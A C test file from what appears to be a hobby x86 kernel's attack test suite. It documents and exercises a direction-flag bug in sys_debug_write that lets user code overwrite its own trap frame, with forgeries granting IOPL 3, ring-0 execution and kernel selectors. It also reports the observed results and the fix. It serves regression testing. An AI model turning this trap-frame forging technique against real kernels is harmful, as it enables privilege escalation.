// ATTACK (hole b): `std; SYS_DEBUG_WRITE` with a crafted buffer makes the
// kernel return to ring 3 through a trap frame the user wrote.
//
// sys_debug_write (kernel/syscall/sys_info.c) copies the user's text into
// its first kfastmalloc object, which lies at the very start of the block's
// arena view - and the arena view is mapped directly above the stack view
// (include/mm/block.h), whose last bytes are the thread's own trap frame.
// With DF set (see test_attack_df: the kernel does not clear it) the copy
// runs backwards from text[0]: text[-1], text[-2], ... are the kfast_record
// of a debug build (8 bytes) and then the top of the stack view, from the
// CPU-pushed ss/esp/eflags/cs/eip down through the saved registers and
// selectors.  The bytes written there are the user's bytes just below its
// pointer, so a buffer of 76 + record + 1 bytes, passed by its LAST byte,
// replaces the whole frame with one the user chose.  The kernel then
// overwrites eax with the result and returns through the frame: iret
// (int 0x80) loads the forged eflags, cs, eip, esp, ss; sysexit (sysenter)
// loads the forged eip and esp, and the forged selectors stay loaded.
//
// Three forgeries, each as faithful as possible to the real frame except
// for the one privilege it grabs:
//   int80_iopl3:  eflags with IOPL 3 (ring 3 gets cli/sti/in/out);
//   int80_ring0:  cs 0x08: iret stays in ring 0 and runs user code there;
//                 the landing (user/lib/flagcall.asm) records cs and irets
//                 back to ring 3, so the test survives to report it;
//   sysenter:     eip -> the landing, ds/es/fs/gs = the kernel's 0x10.
// After the call each test checks cs (mov from cs), IOPL (pushf), every
// selector and every register but eax against the ABI, and that the
// landing was never reached.
//
// Today's kernel (observed, 8 KiB blocks, debug build): int80_iopl3 returns
// with IOPL 3; int80_ring0 lands in flagcall_landing with cs 0x0008, i.e.
// ring-3 code ran in ring 0; sysenter returns to the forged eip with ds
// 0x10 (messages: "EFLAGS.IOPL expected 0, got 3 (eflags 00003202)";
// "it ran flagcall_landing with cs 0x8 - USER CODE RAN IN RING 0";
// "ds expected 0x23, got 0x10").  With 4 KiB blocks the object spills to
// the heap and the backward copy corrupts the heap instead: "PANIC:
// unhandled #PF page fault in the kernel at eip c01100cf
// <kfast_alloc_slow+0xaf>", cr2 afff11d0.  After the fix (cld on every entry;
// a gap between the views) the copy goes forwards and prints one diagnostic
// line.
#include "attack_common.h"

// struct trap_frame (include/trap.h), lowest address first.
struct frame {
    uint32_t gs, fs, es, ds;
    uint32_t edi, esi, ebp, esp_at_pusha, ebx, edx, ecx, eax;
    uint32_t vector, error;
    uint32_t eip, cs, eflags;
    uint32_t user_esp, user_ss;
};
_Static_assert(sizeof(struct frame) == 76, "struct trap_frame is 76 bytes");

// Debug builds put a struct kfast_record (8 bytes) before each object.
#define RECORD (TANDEM_DEBUG ? 8 : 0)
// Bytes copied: the frame, the record, text[0].
#define LEN    (sizeof(struct frame) + RECORD + 1)

// The forged memory image, then what a forward copy would print.
static uint8_t s_buf[2 * LEN + 8] ALIGNED(16);

// Lays the forged frame into s_buf and returns the pointer to pass (the
// byte that the backward copy puts at text[0]).  Past it: a diagnostic
// line, which is what a forward (correct) copy prints.
static uint8_t *
forge(const struct frame *f)
{
    memset(s_buf, '.', sizeof s_buf);
    memcpy(s_buf, f, sizeof *f);
    uint8_t *p = s_buf + LEN - 1;
    static const char line[] = "  # test_attack_frame: a forged frame, printed as text ";
    memcpy(p, line, sizeof line - 1);
    p[LEN - 1] = '\n';
    return p;
}

// A frame that returns exactly where the real one would.
static void
genuine_frame(struct frame *f, const struct flagcall *fc, uintptr_t ubuf)
{
    memset(f, 0, sizeof *f);
    f->gs = f->fs = f->es = f->ds = USER_DS_SEL;
    f->edi = fc->edi;
    f->esi = fc->esi;
    f->ebp = fc->ebp;
    f->ebx = (uint32_t)ubuf;
    f->ecx = LEN;
    f->edx = fc->edx;
    f->vector = 0x80;
    f->cs = USER_CS_SEL;
    f->eflags = EFLAGS_IF | EFLAGS_RES1;
    f->user_ss = USER_DS_SEL;
    if (fc->gate == FLAGCALL_INT80) {
        f->eip = (uint32_t)flagcall_int80_return;
        f->user_esp = fc->esp_int80;
    } else {
        f->eip = (uint32_t)flagcall_sysenter_return;
        f->user_esp = fc->esp_sysenter;
    }
}

static void
setup(struct flagcall *fc, int gate, uint32_t set, uintptr_t ubuf)
{
    fc_init(fc, gate, set, SYS_DEBUG_WRITE, (uint32_t)ubuf, LEN, 0x33300333u, 0x44400444u,
            0x55500555u);
}

// Learns the esp the entry will have (the same call, DF clear, harmless),
// then forges, then makes the attack call from the same stack depth.
// `tweak` turns the genuine frame into the forgery.
static NOINLINE void
attack(int gate, void (*tweak)(struct frame *, const struct flagcall *), const char *what)
{
    struct flagcall dry, fc;
    uintptr_t ubuf = (uintptr_t)(s_buf + LEN - 1);
    setup(&dry, gate, 0, (uintptr_t)s_buf);
    dry.ecx = 0; // a zero-length write: returns 0 at once
    flagcall(&dry);
    struct frame f;
    genuine_frame(&f, &dry, ubuf);
    tweak(&f, &dry);
    forge(&f);
    flagcall_landed_cs = 0;
    flagcall_landing_esp = dry.esp_int80;
    flagcall_landing_eflags = EFLAGS_IF | EFLAGS_RES1;
    setup(&fc, gate, EFLAGS_DF, ubuf);
    long r = flagcall(&fc);
    sys_debug_write("\n", 1); // ends the line a backward copy printed
    utest_context(what);
    if (fc.esp_int80 != dry.esp_int80)
        UFAIL("test bug: esp moved between the dry run and the attack (%08x, %08x)", dry.esp_int80,
              fc.esp_int80);
    if (flagcall_landed_cs)
        UFAIL("the kernel returned through the frame the user wrote: it ran flagcall_landing "
              "with cs %#x%s",
              flagcall_landed_cs,
              (flagcall_landed_cs & 3) == 0 ? " - USER CODE RAN IN RING 0" : "");
    UEXPECT_EQ(r, (long)LEN);
    FC_CHECK_EXIT(&fc, "SYS_DEBUG_WRITE", EFLAGS_DF);
    uint16_t cs = cs_now();
    if (cs != USER_CS_SEL)
        UFAIL("cs now %#x, expected %#x", cs, USER_CS_SEL);
    uint32_t fl = flags_now();
    if (fl & EFLAGS_IOPL)
        UFAIL("EFLAGS now %08x: IOPL %u, expected 0", fl, (fl & EFLAGS_IOPL) >> 12);
}

static void
tweak_iopl3(struct frame *f, const struct flagcall *dry)
{
    (void)dry;
    f->eflags |= EFLAGS_IOPL;
}

static void
tweak_ring0(struct frame *f, const struct flagcall *dry)
{
    (void)dry;
    f->cs = KERNEL_CS_SEL;
    f->eip = (uint32_t)flagcall_landing;
    f->eflags = EFLAGS_RES1; // IF off while in ring 0
}

static void
tweak_sysenter(struct frame *f, const struct flagcall *dry)
{
    // Lands in ring 3, then goes on at flagcall_int80_return, which finds
    // fc where int 0x80 would have left esp.
    f->eip = (uint32_t)flagcall_landing;
    f->user_esp = dry->esp_int80;
    f->gs = f->fs = f->es = f->ds = KERNEL_DS_SEL;
    f->eflags |= EFLAGS_IOPL;
}

UTEST(int80_iopl3)
{
    attack(FLAGCALL_INT80, tweak_iopl3, "int 0x80, forged IOPL 3");
}

UTEST(int80_ring0)
{
    attack(FLAGCALL_INT80, tweak_ring0, "int 0x80, forged cs 0x08");
}

UTEST(sysenter_forged_eip_and_selectors)
{
    SKIP_WITHOUT_SYSENTER();
    attack(FLAGCALL_SYSENTER, tweak_sysenter, "sysenter, forged eip and ds");
}

int
main(void)
{
    return utest_run("test_attack_frame");
}
